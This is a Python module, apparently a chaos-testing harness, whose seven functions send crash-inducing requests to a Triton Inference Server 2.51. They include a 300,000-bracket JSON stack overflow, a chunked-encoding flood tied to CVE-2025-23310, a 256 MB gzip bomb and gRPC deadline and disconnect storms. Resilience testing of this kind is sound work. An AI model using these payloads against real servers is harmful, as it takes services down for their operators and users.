"""Requests and clients that end a tritonserver 2.51 which they reach, for `./run chaos`.

Each takes the addresses of HTTP and gRPC, and returns what it was answered.
"""

import random
import socket
import threading
import time
import zlib
from collections.abc import Callable

import grpc
from tritonclient.grpc.service_pb2 import ModelInferRequest

from pem_server.checkout import ROOT

from .backend import CHANNEL, MODEL_INFER
from .callable_models import ENSEMBLE

HEAD = f"POST /v2/models/{ENSEMBLE}/infer HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".encode()
TIMEOUT_S = 60.0


def nested_brackets(http: str, _: str) -> bytes:
    """JSON of 300,000 brackets: the parser's stack overflows."""
    body = b"[" * 150_000 + b"]" * 150_000
    return _exchange(http, HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def many_chunks(http: str, _: str) -> bytes:
    """A body of 700,000 chunks of one byte: CVE-2025-23310."""
    body = b"1\r\nA\r\n" * 700_000
    return _exchange(http, HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + body + b"0\r\n\r\n")


def gzip_bomb(http: str, _: str) -> bytes:
    """256 MB of zeros in 0.3 MB of gzip: the memory is never given back."""
    pack = zlib.compressobj(9, wbits=31)
    body = b"".join(pack.compress(bytes(2**20)) for _ in range(256)) + pack.flush()
    line = b"Content-Encoding: gzip\r\nInference-Header-Content-Length: 10\r\n"
    return _exchange(http, HEAD + line + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def classification(_: str, address: str) -> bytes:
    """The output parameter that Triton documents, on an output of strings."""
    message = good_request()
    message.outputs.add(name="detections").parameters["classification"].int64_param = 1
    with grpc.insecure_channel(address, options=CHANNEL) as channel:
        call = channel.unary_unary(MODEL_INFER)
        try:
            return bytes(call(message.SerializeToString(), timeout=TIMEOUT_S))
        except grpc.RpcError as error:
            return str(error.details()).encode()


def impatient_client(_: str, address: str, seconds: float = 4.0) -> bytes:
    """One client with defaults, whose every request is given up after 15 ms."""
    return _give_up(address, time.monotonic() + seconds, random.Random(0), 15.0, 15.0)


def deadline_storm(_: str, address: str, seconds: float = 6.0) -> bytes:
    """Eight clients with deadlines shorter than the answer, and some longer."""
    until = time.monotonic() + seconds
    threads = [
        threading.Thread(target=_give_up, args=(address, until, random.Random(n), 5.0, 150.0))
        for n in range(8)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return b""


def vanishing_clients(http: str, _: str, count: int = 200) -> bytes:
    """HTTP clients that leave, half of them within their body."""
    image = (ROOT / "docs" / "street.jpg").read_bytes()
    head = f"POST /v1/segment HTTP/1.1\r\nHost: x\r\nContent-Length: {len(image)}\r\n\r\n".encode()
    for number in range(count):
        with _connect(http) as connection:
            connection.sendall(head + image[: len(image) // (1 + number % 2)])
            if number % 4 < 2:  # with a reset
                linger = b"\1\0\0\0\0\0\0\0"
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    return b""


KINDS: dict[str, Callable[[str, str], bytes]] = {
    "300,000 nested brackets": nested_brackets,
    "700,000 chunks of one byte": many_chunks,
    "gzip bomb of 256 MB": gzip_bomb,
    "the parameter classification": classification,
    "a client that waits 15 ms": impatient_client,
    "eight clients that wait 5 to 150 ms": deadline_storm,
    "200 clients that leave": vanishing_clients,
}


def good_request() -> ModelInferRequest:
    """The street of the documentation; no outputs are named."""
    image = (ROOT / "docs" / "street.jpg").read_bytes()
    message = ModelInferRequest(model_name=ENSEMBLE)
    message.inputs.add(name="image", datatype="BYTES", shape=[1, 1])
    message.raw_input_contents.append(len(image).to_bytes(4, "little") + image)
    return message


def _give_up(
    address: str, until: float, random_: random.Random, low_ms: float, high_ms: float
) -> bytes:
    message = good_request().SerializeToString()  # no outputs named: both last steps run
    with grpc.insecure_channel(address, options=CHANNEL) as channel:
        call = channel.unary_unary(MODEL_INFER)
        while time.monotonic() < until:
            try:
                call(message, timeout=random_.uniform(low_ms, high_ms) / 1000)
            except grpc.RpcError as error:
                if error.code() == grpc.StatusCode.UNAVAILABLE:
                    time.sleep(0.02)
    return b""


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=TIMEOUT_S)


def _exchange(address: str, data: bytes) -> bytes:
    """Send bytes; return what comes back until the connection ends."""
    answer = b""
    try:
        with _connect(address) as connection:
            connection.sendall(data)
            while part := connection.recv(65536):
                answer += part
    except OSError as error:
        answer += type(error).__name__.encode()
    return answer
